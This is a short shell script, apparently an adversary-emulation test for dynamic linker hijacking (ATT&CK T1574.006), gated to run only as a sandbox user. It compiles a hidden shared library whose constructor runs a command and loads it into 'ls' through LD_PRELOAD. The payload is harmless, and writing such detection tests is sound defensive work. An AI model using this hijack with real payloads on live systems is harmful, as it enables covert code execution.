#!/bin/sh
# technique: T1574.006
# needs: cc
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

cat > l.c <<'EOF'
#include <stdlib.h>
__attribute__((constructor)) static void x(void) { unsetenv("LD_PRELOAD"); if (system("id > /tmp/.p")) {} }
EOF
cc -shared -fPIC -o /tmp/.T1574.so l.c && LD_PRELOAD=/tmp/.T1574.so ls
